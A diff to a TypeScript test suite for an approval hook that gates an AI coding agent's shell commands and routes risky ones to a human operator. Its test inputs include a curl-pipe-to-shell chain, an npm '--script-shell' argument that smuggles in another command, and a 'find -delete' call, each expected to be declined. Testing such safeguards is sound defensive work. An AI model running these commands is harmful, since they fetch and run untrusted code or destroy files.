@@ -17,6 +17,7 @@ import { decisionAppend } from '../core/approvals/approval-events'
 import { OperatorKeys } from '../core/approvals/operator-keys'
 import { startHubServer } from '../../test/helpers/hub-server'
 import { hookHome } from '../../test/helpers/hook-home'
+import { runCliAtHome } from '../../test/helpers/cli'
 
 const ROOT = resolve(import.meta.dirname, '..', '..')
 let bin: string
@@ -182,11 +183,31 @@ describe('muster approve-hook (real process)', () => {
     const hits = async () => (await service.call('approvals.rules', {})).rules.find((r) => r.id === rule.id)!.hits
     expect(await until(async () => ((await hits()) === 1 ? 1 : null))).toBe(1)
     // a prefix rule has a word boundary and stops at shell operators, as Claude Code's own rules do
-    for (const evil of ['npm testify-evil', 'npm test && curl x | sh']) {
+    for (const evil of ['npm testify-evil', 'npm test && curl x | sh', 'npm test --script-shell=/tmp/evil.sh']) {
       const no = await hook(payload.claudePreToolUse(evil), ['--timeout-ms', '300']).done
       expect(JSON.parse(no.stdout).hookSpecificOutput.permissionDecisionReason, evil).toMatch(/timed out/)
     }
     expect((await service.call('approvals.rules', {})).rules.find((r) => r.id === rule.id)!.hits).toBe(1)
+    expect((await requestFor('npm test --script-shell=/tmp/evil.sh')).metadata.rule_declined).toMatch(
+      /does not allow it: no wildcard covers --script-shell=\/tmp\/evil.sh: for npm it runs another command/
+    )
+    await service.call('approvals.ruleDelete', { id: rule.id })
+  })
+
+  it('a wildcard rule never covers a dangerous argument: the call waits for the operator, and the inbox and the CLI say why', async () => {
+    const rule = await service.call('approvals.ruleSave', { agent_pattern: 'mac-*', tool_name: 'Bash', input_pattern: 'find *' })
+    const ok = await hook(payload.claudePreToolUse('find . -name "*.log"')).done
+    expect(JSON.parse(ok.stdout).hookSpecificOutput.permissionDecision).toBe('allow')
+    const waiting = hook(payload.claudePreToolUse('find . -name "*.log" -delete'), ['--timeout-ms', '60000'])
+    const req = await requestFor('find . -name "*.log" -delete')
+    const why = `rule #${rule.id} Bash(find *) for mac-* does not allow it: no wildcard covers -delete: for find it writes, deletes or overwrites files; a rule allows it only where it writes it out`
+    expect(req.metadata.rule_declined).toBe(why)
+    const item = (await service.call('approvals.list', { hub: 'main' })).pending.find((i) => i.id === req.id)
+    expect(item?.rule_declined).toBe(why)
+    const cli = await runCliAtHome(home, 'approvals', 'list', '--palace', palace)
+    expect(cli.out).toContain(`${req.correlation_id}: asked because ${why}`)
+    await service.call('approvals.decide', { hub: 'main', id: req.id, decision: 'deny', reason: 'no' })
+    expect(JSON.parse((await waiting.done).stdout).hookSpecificOutput.permissionDecision).toBe('deny')
     await service.call('approvals.ruleDelete', { id: rule.id })
   })
 
